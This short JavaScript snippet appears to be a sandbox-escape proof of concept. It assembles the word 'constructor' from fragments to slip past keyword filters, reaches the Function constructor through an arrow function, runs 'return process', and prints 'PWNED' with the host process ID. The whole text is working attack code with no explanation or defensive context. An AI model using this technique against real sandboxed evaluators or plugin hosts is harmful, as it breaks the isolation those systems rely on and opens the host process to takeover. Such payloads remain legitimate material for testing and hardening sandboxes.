const w = ['con', 'structor'].join('');
const t = { go: (f) => f[w] };
t.go({});
const fn = (x) => x;
const o = { get it() { return t; } };
console.log('PWNED', o.it.go(fn)('return process')().pid);
